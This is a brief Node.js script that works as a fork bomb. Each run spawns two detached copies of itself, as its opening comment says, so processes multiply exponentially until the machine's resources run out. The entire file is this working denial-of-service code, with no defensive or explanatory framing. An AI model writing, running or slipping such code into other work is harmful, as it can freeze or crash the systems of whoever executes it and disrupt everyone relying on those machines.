// Each copy starts two more, in sessions of their own, and ends.
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';

const self = fileURLToPath(import.meta.url);
for (let copy = 1; copy <= 2; copy += 1) {
  spawn(process.execPath, [self], { detached: true, stdio: 'ignore' }).unref();
}
